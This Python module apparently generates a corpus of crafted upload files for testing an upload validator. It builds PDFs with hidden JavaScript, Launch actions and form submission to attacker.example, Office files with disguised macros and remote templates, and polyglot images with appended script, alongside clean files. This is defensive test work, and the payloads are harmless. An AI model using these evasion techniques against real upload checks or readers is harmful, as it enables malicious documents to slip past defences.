"""Crafted upload files, made by code: no binary is committed and nothing is downloaded.

Each function returns the bytes of one file; ``CASES`` lists them with the outcome the
upload checks must give (``None``: accepted; otherwise the ValidationError code).
``tests/core/test_upload_corpus.py`` runs every case through every upload path.

To look at the files: ``.venv/bin/python -m tests.corpus.make_corpus /tmp/corpus``.
"""

import functools
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024

# ---------------------------------------------------------------- PDF


def _pdf_objects(objects: dict[int, bytes], out: bytearray) -> dict[int, int]:
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return offsets


def pdf(objects: dict[int, bytes], *, unlisted: tuple[int, ...] = ()) -> bytes:
    """A PDF with a classic cross-reference table; ``unlisted`` objects are written
    but left out of the table (orphans only a repairing viewer finds)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = _pdf_objects(objects, out)
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets and number not in unlisted:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def pdf_packed(objects: dict[int, bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file whose ``packed`` objects sit in a compressed object stream,
    listed by a cross-reference stream (what Word and Acrobat write)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = _pdf_objects(objects, out)
    stream_number = max(*objects, *packed) + 1
    bodies, pairs, position = [], [], 0
    for number, body in packed.items():
        pairs.append(b"%d %d" % (number, position))
        bodies.append(body)
        position += len(body) + 1
    header = b" ".join(pairs) + b"\n"
    content = zlib.compress(header + b"\n".join(bodies) + b"\n")
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(packed),
        len(header),
        len(content),
    )
    out += b"stream\n" + content + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(b"\x01" + struct.pack(">IH", offsets[number], 0))
        else:
            index = list(packed).index(number)
            rows.append(b"\x02" + struct.pack(">IH", stream_number, index))
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


PAGE_TEXT = b"BT /F1 14 Tf 72 770 Td (Bien ban hop dan - Phuong Vinh Phu) Tj ET"


def _document(catalogue: bytes = b"", page: bytes = b"", annotations: bytes = b"") -> dict:
    """Catalogue 1, pages 2, one page 3 with contents 4 and font 5; objects from 6 on
    are the case's own."""
    annots = b"/Annots [%s]" % annotations if annotations else b""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s %s >>" % (annots, page),
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(PAGE_TEXT), PAGE_TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % (
        action
    )


def pdf_clean() -> bytes:
    return pdf(_document())


def pdf_with_web_and_mail_links() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R 7 0 R")
        | {
            6: _link(b"<< /S /URI /URI (https://nghean.gov.vn/van-ban) >>"),
            7: _link(b"<< /S /URI /URI (mailto:ubnd@nghean.gov.vn) >>"),
        }
    )


def pdf_clean_object_stream() -> bytes:
    objects = _document()
    packed = {number: objects.pop(number) for number in (1, 2, 3, 5)}
    return pdf_packed(objects, packed)


def pdf_by_pypdf_with_outline() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_outline_item(title="Phần I", page_number=0)
    writer.add_metadata({"/Title": "Báo cáo"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_by_weasyprint() -> bytes:
    """What the portal's own PDF engine writes (tagged, with a link)."""
    from weasyprint import HTML

    page = (
        '<html lang="vi"><body><h1>Biên bản họp dân</h1><p>Xem '
        '<a href="https://nghean.gov.vn/">cổng thông tin</a>.</p></body></html>'
    )
    return HTML(string=page).write_pdf(pdf_tags=True)


def pdf_two_revisions_and_padding() -> bytes:
    """An incremental update (as a signature adds) and CR LF NUL padding at the end."""
    first = pdf_clean()
    start = len(first)
    update = b"6 0 obj\n<< /Producer (Ky so) >>\nendobj\n"
    xref = start + len(update)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    update += b"xref\n0 1\n0000000000 65535 f \n6 1\n%010d 00000 n \n" % start
    update += b"trailer\n<< /Size 7 /Root 1 0 R /Info 6 0 R /Prev %d >>\n" % previous
    update += b"startxref\n%d\n%%%%EOF\r\n\x00\x00\n" % xref
    return first + update


def pdf_too_complex() -> bytes:
    """One array of 600,000 numbers: more parsing than a file may cost."""
    return pdf(_document() | {6: b"[" + b"0 " * 600_000 + b"]"})


def pdf_javascript_hex_escaped() -> bytes:
    return pdf(_document(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"))


def pdf_javascript_hex_escaped_key_only() -> bytes:
    """Only the key is escaped: ``/#4A#53`` is ``/JS``."""
    return pdf(_document(page=b"/AA << /O << /#4A#53 (app.alert\\(1\\)) >> >>"))


def pdf_javascript_in_object_stream() -> bytes:
    objects = _document(b"/OpenAction 6 0 R")
    return pdf_packed(objects, {6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})


def pdf_javascript_name_tree() -> bytes:
    return pdf(
        _document(b"/Names << /JavaScript 6 0 R >>")
        | {
            6: b"<< /Names [(init) 7 0 R] >>",
            7: b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\)) >>",
        }
    )


def pdf_action_type_by_reference() -> bytes:
    """``/S 7 0 R`` where object 7 is the name ``/JavaScript``: viewers follow it."""
    return pdf(
        _document(b"/OpenAction 6 0 R")
        | {6: b"<< /S 7 0 R /JS (app.alert\\(1\\)) >>", 7: b"/JavaScript"}
    )


def pdf_action_type_by_double_reference() -> bytes:
    """``/S 7 0 R``, object 7 being ``8 0 R``: pypdf cannot follow it, so it is refused."""
    return pdf(
        _document(b"/OpenAction 6 0 R")
        | {6: b"<< /S 7 0 R /F (calc.exe) >>", 7: b"8 0 R", 8: b"/Launch"}
    )


def pdf_open_action_launch() -> bytes:
    return pdf(_document(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"))


def pdf_annotation_launch() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R") | {6: _link(b"<< /S /Launch /F (..\\\\update.exe) >>")}
    )


def pdf_goto_remote_share() -> bytes:
    return pdf(_document(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>"))


def pdf_submit_form() -> bytes:
    return pdf(
        _document(
            b"/AcroForm << /Fields [] >> /AA << /WC << /S /SubmitForm /F "
            b"<< /FS /URL /F (http://attacker.example/collect) >> >> >>"
        )
    )


def pdf_embedded_file() -> bytes:
    data = b"MZ\x90\x00 not really a program"
    return pdf(
        _document(b"/Names << /EmbeddedFiles << /Names [(bao-cao.exe) 6 0 R] >> >>")
        | {
            6: b"<< /Type /Filespec /F (bao-cao.exe) /EF << /F 7 0 R >> >>",
            7: b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(data), data),
        }
    )


def pdf_file_attachment_annotation() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R")
        | {
            6: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
            b"/FS << /Type /Filespec /F (a.docm) >> >>"
        }
    )


def pdf_uri_javascript() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R")
        | {6: _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")}
    )


def pdf_uri_javascript_with_tab() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R")
        | {6: _link(b"<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>")}
    )


def pdf_uri_network_share() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R")
        | {6: _link(b"<< /S /URI /URI (file://attacker.example/share/x) >>")}
    )


def pdf_xfa_form() -> bytes:
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'
    return pdf(
        _document(b"/AcroForm << /Fields [] /XFA 6 0 R >>")
        | {6: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(xfa), xfa)}
    )


def pdf_rich_media() -> bytes:
    return pdf(
        _document(annotations=b"6 0 R")
        | {
            6: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] "
            b"/RichMediaContent << /Assets << /Names [] >> >> >>"
        }
    )


def pdf_shadow_catalogue() -> bytes:
    """A second catalogue with an OpenAction script, listed by no cross-reference
    table: the live catalogue is clean, a repairing viewer may pick the other."""
    return pdf(
        _document()
        | {6: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"},
        unlisted=(6,),
    )


def pdf_unparseable_object_with_script() -> bytes:
    """An unlisted object pypdf cannot parse (a dictionary left open) that still names a
    script: its raw bytes are searched instead."""
    return pdf(
        _document() | {6: b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) /Next <<"}, unlisted=(6,)
    )


def pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="khoa", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_without_cross_reference() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def pdf_header_then_web_page() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"


def pdf_then_web_page() -> bytes:
    return pdf_clean() + b"<html><body><img src=x onerror=alert(1)></body></html>\n"


def pdf_then_zip() -> bytes:
    return pdf_clean() + zip_bytes({"evil.html": b"<script>alert(1)</script>"})


def pdf_then_zip_then_eof() -> bytes:
    """A ZIP hidden before a last ``%%EOF``: unzip tools still open it."""
    return pdf_clean() + zip_bytes({"evil.js": b"alert(1)"}) + b"\n%%EOF\n"


# ---------------------------------------------------------------- Office


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CT = "application/vnd.openxmlformats-officedocument"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> bytes:
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
    } | (defaults or {})
    rows = [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items()]
    rows += [f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items()]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://'
        'schemas.openxmlformats.org/package/2006/content-types">' + "".join(rows) + "</Types>"
    ).encode()


def _rels(*relationships: tuple[str, str, str]) -> bytes:
    rows = []
    for number, (kind, target, mode) in enumerate(relationships, start=1):
        mode_attribute = f' TargetMode="{mode}"' if mode else ""
        rows.append(
            f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode_attribute}/>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
        'http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    ).encode()


DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://'
    'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo '
    "thành tích xây dựng điểm sáng dân vận khéo</w:t></w:r></w:p></w:body></w:document>"
).encode()


def docx(
    *,
    main_type: str = f"{CT}.wordprocessingml.document.main+xml",
    parts: dict[str, bytes] | None = None,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    document_rels: tuple = (),
    settings_rels: tuple = (),
) -> bytes:
    members = {
        "[Content_Types].xml": _types(
            {
                "/word/document.xml": main_type,
                "/word/settings.xml": f"{CT}.wordprocessingml.settings+xml",
            }
            | (overrides or {}),
            defaults,
        ),
        "_rels/.rels": _rels((f"{REL}/officeDocument", "word/document.xml", "")),
        "word/document.xml": DOCUMENT_XML,
        "word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"/>',
        "word/_rels/document.xml.rels": _rels(
            (f"{REL}/settings", "settings.xml", ""), *document_rels
        ),
    }
    if settings_rels:
        members["word/_rels/settings.xml.rels"] = _rels(*settings_rels)
    return zip_bytes(members | (parts or {}))


def docx_clean_with_web_link() -> bytes:
    return docx(document_rels=((f"{REL}/hyperlink", "https://dangcongsan.vn/", "External"),))


def docx_local_template() -> bytes:
    """Made from a template on the author's own drive (Word records its path)."""
    template = "file:///C:\\Users\\canbo\\AppData\\Roaming\\Microsoft\\Templates\\Mau-VB.dotx"
    return docx(settings_rels=((f"{REL}/attachedTemplate", template, "External"),))


def xlsx_workbook(*, macro: bool = False) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Diem"
    sheet.append(["Tiêu chí", "Điểm"])
    sheet.append(["Dân chủ ở cơ sở", 18])
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not macro:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    return zip_bytes(members)


def xlsx_clean() -> bytes:
    return xlsx_workbook()


def docx_with_chart_workbook() -> bytes:
    """A chart's data workbook embedded as a package part (what Word charts do)."""
    return docx(
        parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_workbook()},
        defaults={"xlsx": f"{CT}.spreadsheetml.sheet"},
        document_rels=((f"{REL}/package", "embeddings/Microsoft_Excel_Worksheet.xlsx", ""),),
    )


def docx_renamed_macro_part() -> bytes:
    """The VBA project saved as ``media/image1.png``, linked by a vbaProject relationship."""
    return docx(
        parts={"word/media/image1.png": OLE2},
        document_rels=((f"{MS_REL}/vbaProject", "media/image1.png", ""),),
    )


def docx_macro_content_type_override() -> bytes:
    return docx(
        parts={"word/media/logo.png": OLE2},
        overrides={"/word/media/logo.png": "application/vnd.ms-office.vbaProject"},
    )


def docx_ole2_bytes_under_an_image_name() -> bytes:
    """Nothing declares it; its bytes are an OLE2 compound file all the same."""
    return docx(parts={"word/media/image2.png": OLE2})


def docm_as_docx() -> bytes:
    return docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        parts={"word/vbaProject.bin": OLE2},
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
    )


def docx_remote_template() -> bytes:
    return docx(
        settings_rels=((f"{REL}/attachedTemplate", "https://attacker.example/t.dotm", "External"),)
    )


def docx_network_share_template() -> bytes:
    return docx(
        settings_rels=((f"{REL}/attachedTemplate", "\\\\attacker\\share\\t.dotm", "External"),)
    )


def docx_remote_picture() -> bytes:
    return docx(document_rels=((f"{REL}/image", "http://attacker.example/p.png", "External"),))


def docx_hyperlink_to_network_share() -> bytes:
    return docx(
        document_rels=((f"{REL}/hyperlink", "file://attacker.example/share/x", "External"),)
    )


def docx_ole_embedding() -> bytes:
    return docx(
        parts={"word/embeddings/oleObject1.bin": OLE2},
        defaults={"bin": f"{CT}.oleObject"},
        document_rels=((f"{REL}/oleObject", "embeddings/oleObject1.bin", ""),),
    )


def docx_activex_control() -> bytes:
    return docx(
        parts={"word/activeX/activeX1.xml": b"<ax:ocx/>"},
        overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        document_rels=((f"{REL}/control", "activeX/activeX1.xml", ""),),
    )


def docx_embedded_macro_workbook() -> bytes:
    return docx(
        parts={"word/embeddings/Book1.xlsx": xlsx_workbook(macro=True)},
        document_rels=((f"{REL}/package", "embeddings/Book1.xlsx", ""),),
    )


def docx_duplicate_part_names() -> bytes:
    buffer = io.BytesIO(docx_clean_with_web_link())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("WORD/document.xml", b"<w:document/>")
    return buffer.getvalue()


def docx_zip_bomb() -> bytes:
    return docx(parts={"word/media/filler.xml": b"\x00" * (40 * MB)})


def docx_too_many_parts() -> bytes:
    return docx(parts={f"word/media/p{n}.xml": b"<p/>" for n in range(5001)})


def xlsx_macro_sheet() -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx_workbook())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/macrosheets/sheet1.xml"] = b"<xm:macrosheet/>"
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/macrosheets/sheet1.xml" '
        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )
    return zip_bytes(members)


def xlsx_workbook_link_on_network_share() -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx_workbook())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = _rels(
        (f"{REL}/externalLinkPath", "file:///\\\\fileserver\\chung\\diem.xlsx", "External")
    )
    return zip_bytes(members)


def pptx_presentation() -> bytes:
    """A valid package, but presentations are not among the accepted types."""
    return docx(main_type=f"{CT}.presentationml.presentation.main+xml")


# ---------------------------------------------------------------- images


def pillow_image(fmt: str, size=(640, 480), **options) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, fmt, **options)
    return buffer.getvalue()


def _jpeg_segments(data: bytes) -> tuple[list[tuple[int, bytes]], bytes]:
    """(marker, payload) segments up to SOS, and the scan data after it."""
    segments, position = [], 2
    while True:
        marker = data[position + 1]
        (length,) = struct.unpack_from(">H", data, position + 2)
        payload = data[position + 4 : position + 2 + length]
        segments.append((marker, payload))
        position += 2 + length
        if marker == 0xDA:
            return segments, data[position:]


def _segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


@functools.cache
def jpeg_of_size(width: int, height: int, app1: bytes = b"") -> bytes:
    """A baseline 4:2:0 JPEG (what phone cameras write) of any size, built without
    holding its pixels: the tables come from a 16 x 16 Pillow JPEG, and each 16 x 16
    MCU of a flat grey picture is the same four bytes with the standard Huffman tables
    (luma: DC 0 = "00", EOB = "1010", four blocks; chroma: DC 0 = "00", EOB = "00")."""
    assert width % 16 == 0 and height % 16 == 0
    segments, _scan = _jpeg_segments(pillow_image("JPEG", (16, 16), quality=90))
    out = bytearray(b"\xff\xd8")
    for marker, payload in segments:
        if marker == 0xC0:
            payload = payload[:1] + struct.pack(">HH", height, width) + payload[5:]
        out += _segment(marker, payload)
        if marker == 0xE0 and app1:
            out += _segment(0xE1, app1)
    out += b"\x28\xa2\x8a\x00" * ((width // 16) * (height // 16))
    return bytes(out + b"\xff\xd9")


def jpeg_clean() -> bytes:
    return pillow_image("JPEG", quality=85)


def png_clean() -> bytes:
    return pillow_image("PNG")


def png_interlaced_with_palette() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("P", (300, 200), 3).save(buffer, "PNG", interlace=1)
    return buffer.getvalue()


def jpeg_50_megapixels() -> bytes:
    return jpeg_of_size(8192, 6144)


def jpeg_200_megapixels() -> bytes:
    return jpeg_of_size(16320, 12240)


def jpeg_262_megapixels() -> bytes:
    return jpeg_of_size(16384, 16000)


def jpeg_progressive_18_megapixels() -> bytes:
    return pillow_image("JPEG", (5000, 3750), progressive=True, quality=70)


def jpeg_progressive_24_megapixels() -> bytes:
    return pillow_image("JPEG", (6000, 4000), progressive=True, quality=70)


def _exif_with_thumbnail(thumbnail: bytes) -> bytes:
    """APP1 Exif: an empty IFD0 whose next IFD (IFD1) points at a JPEG thumbnail, as
    cameras write it; the thumbnail's own EOI marker sits inside the segment."""
    ifd1 = struct.pack("<H", 2)
    ifd1 += struct.pack("<HHII", 0x0201, 4, 1, 8 + 6 + 30)
    ifd1 += struct.pack("<HHII", 0x0202, 4, 1, len(thumbnail)) + struct.pack("<I", 0)
    tiff = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<HI", 0, 14) + ifd1
    return b"Exif\x00\x00" + tiff + thumbnail


def jpeg_with_exif_thumbnail() -> bytes:
    thumbnail = pillow_image("JPEG", (160, 120), quality=60)
    return jpeg_of_size(4000, 3008, app1=_exif_with_thumbnail(thumbnail))


def jpeg_with_padding() -> bytes:
    return jpeg_clean() + b"\x00" * 512 + b"\r\n"


def jpeg_with_second_picture() -> bytes:
    """Multi-Picture Format: a depth map or HDR gain map stored after the picture."""
    return jpeg_clean() + pillow_image("JPEG", (160, 120))


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _video(payload: bytes) -> bytes:
    return (
        _box(b"ftyp", b"isom\x00\x00\x02\x00isommp41")
        + _box(b"mdat", payload)
        + _box(b"moov", _box(b"mvhd", b"\x00" * 100))
    )


def _noise(size: int) -> bytes:
    return random.Random(7).randbytes(size).replace(b"<", b"(")


def jpeg_motion_photo() -> bytes:
    """A Google/Xiaomi motion photo: the picture, then an MP4 video."""
    return jpeg_clean() + _video(_noise(64 * 1024))


def jpeg_motion_photo_with_script() -> bytes:
    return jpeg_clean() + _video(_noise(4096) + b"<script>alert(1)</script>" + _noise(4096))


def jpeg_samsung_trailer() -> bytes:
    name = b"Image_UTC_Data"
    block = b"\x00\x00\x01\x0a" + struct.pack("<I", len(name)) + name + b"1764835200000"
    directory = b"SEFH" + struct.pack("<II", 106, 1)
    directory += struct.pack("<HHII", 0, 0x0A01, len(block), len(block))
    return jpeg_clean() + block + directory + struct.pack("<I", len(directory)) + b"SEFT"


def jpeg_unknown_trailer() -> bytes:
    return jpeg_clean() + _noise(2048)


def jpeg_then_web_page() -> bytes:
    return jpeg_clean() + b'<img src=x onerror="alert(document.cookie)">'


def jpeg_then_javascript_url() -> bytes:
    return jpeg_clean() + b"javascript:alert(1)//"


def jpeg_then_utf16_script() -> bytes:
    return jpeg_clean() + "<script>alert(1)</script>".encode("utf-16-le")


def jpeg_then_zip() -> bytes:
    return jpeg_clean() + zip_bytes({"a.html": b"<script>alert(1)</script>"})


def jpeg_comment_with_script() -> bytes:
    data = jpeg_clean()
    return data[:2] + _segment(0xFE, b"<script>alert(1)</script>") + data[2:]


def jpeg_truncated() -> bytes:
    return jpeg_clean()[: len(jpeg_clean()) // 2]


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def png_of_size(width: int, height: int, *, color_type: int = 2, bit_depth: int = 8) -> bytes:
    """A PNG of flat rows, compressed a row at a time (never holding the pixels)."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    row = b"\x00" * (1 + (width * channels * bit_depth + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def png_7740_square() -> bytes:
    """The 232 KB PNG whose decode costs 230 MB (7,740 x 7,740 RGB)."""
    return png_of_size(7740, 7740)


def png_over_250_megapixels() -> bytes:
    return png_of_size(20000, 13000, color_type=0, bit_depth=1)


def png_then_web_page() -> bytes:
    return png_clean() + b"<html><body onload=alert(1)></body></html>"


def png_then_javascript_url() -> bytes:
    return png_clean() + b"\x00\x00javascript:alert(1)"


def _with_chunk(kind: bytes, payload: bytes) -> bytes:
    data = png_clean()
    return data[:-12] + _chunk(kind, payload) + data[-12:]


def png_zip_in_private_chunk() -> bytes:
    return _with_chunk(b"ziPp", zip_bytes({"a.html": b"<script>alert(1)</script>"}))


def png_utf16_script_in_text_chunk() -> bytes:
    return _with_chunk(b"tEXt", b"Comment\x00" + "<script>alert(1)</script>".encode("utf-16-le"))


def png_bad_checksum() -> bytes:
    data = bytearray(png_clean())
    data[-20] ^= 0xFF  # a byte of the IDAT chunk, so its CRC no longer matches
    return bytes(data)


def utf16_page_named_as_image() -> bytes:
    return "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le")


def svg_named_as_image() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


# ---------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Case:
    make: Callable[[], bytes]
    refusal: str | None  # None: accepted; otherwise the ValidationError's code
    filename: str

    @property
    def name(self) -> str:
        return self.make.__name__


CASES = [
    # accepted
    Case(pdf_clean, None, "bien-ban.pdf"),
    Case(pdf_with_web_and_mail_links, None, "van-ban.pdf"),
    Case(pdf_clean_object_stream, None, "to-trinh.pdf"),
    Case(pdf_by_pypdf_with_outline, None, "bao-cao.pdf"),
    Case(pdf_two_revisions_and_padding, None, "da-ky-so.pdf"),
    Case(pdf_by_weasyprint, None, "giay-moi.pdf"),
    Case(docx_clean_with_web_link, None, "bao-cao.docx"),
    Case(docx_local_template, None, "cong-van.docx"),
    Case(docx_with_chart_workbook, None, "bieu-do.docx"),
    Case(xlsx_clean, None, "bang-diem.xlsx"),
    Case(jpeg_clean, None, "anh.jpg"),
    Case(png_clean, None, "anh.png"),
    Case(png_interlaced_with_palette, None, "so-do.png"),
    Case(jpeg_50_megapixels, None, "anh-50mp.jpg"),
    Case(jpeg_200_megapixels, None, "anh-200mp.jpg"),
    Case(jpeg_progressive_18_megapixels, None, "anh-web.jpg"),
    Case(jpeg_with_exif_thumbnail, None, "anh-exif.jpg"),
    Case(jpeg_with_padding, None, "anh-dem.jpg"),
    Case(jpeg_with_second_picture, None, "anh-mpf.jpg"),
    Case(jpeg_motion_photo, None, "anh-dong.jpg"),
    Case(jpeg_samsung_trailer, None, "anh-samsung.jpg"),
    # PDF refused
    Case(pdf_javascript_hex_escaped, "active", "a.pdf"),
    Case(pdf_javascript_hex_escaped_key_only, "active", "a.pdf"),
    Case(pdf_javascript_in_object_stream, "active", "a.pdf"),
    Case(pdf_javascript_name_tree, "active", "a.pdf"),
    Case(pdf_action_type_by_reference, "active", "a.pdf"),
    Case(pdf_action_type_by_double_reference, "active", "a.pdf"),
    Case(pdf_open_action_launch, "active", "a.pdf"),
    Case(pdf_annotation_launch, "active", "a.pdf"),
    Case(pdf_goto_remote_share, "active", "a.pdf"),
    Case(pdf_submit_form, "active", "a.pdf"),
    Case(pdf_rich_media, "active", "a.pdf"),
    Case(pdf_shadow_catalogue, "active", "a.pdf"),
    Case(pdf_unparseable_object_with_script, "active", "a.pdf"),
    Case(pdf_embedded_file, "embedded", "a.pdf"),
    Case(pdf_file_attachment_annotation, "embedded", "a.pdf"),
    Case(pdf_uri_javascript, "link", "a.pdf"),
    Case(pdf_uri_javascript_with_tab, "link", "a.pdf"),
    Case(pdf_uri_network_share, "link", "a.pdf"),
    Case(pdf_xfa_form, "xfa", "a.pdf"),
    Case(pdf_encrypted, "encrypted", "a.pdf"),
    Case(pdf_without_cross_reference, "pdf", "a.pdf"),
    Case(pdf_header_then_web_page, "pdf", "a.pdf"),
    Case(pdf_then_web_page, "polyglot", "a.pdf"),
    Case(pdf_then_zip, "polyglot", "a.pdf"),
    Case(pdf_then_zip_then_eof, "polyglot", "a.pdf"),
    Case(pdf_too_complex, "bomb", "a.pdf"),
    # Office refused
    Case(docx_renamed_macro_part, "macro", "a.docx"),
    Case(docx_macro_content_type_override, "macro", "a.docx"),
    Case(docm_as_docx, "macro", "a.docx"),
    Case(docx_embedded_macro_workbook, "macro", "a.docx"),
    Case(xlsx_macro_sheet, "macro", "a.xlsx"),
    Case(docx_ole2_bytes_under_an_image_name, "ole", "a.docx"),
    Case(docx_ole_embedding, "ole", "a.docx"),
    Case(docx_activex_control, "ole", "a.docx"),
    Case(docx_remote_template, "external", "a.docx"),
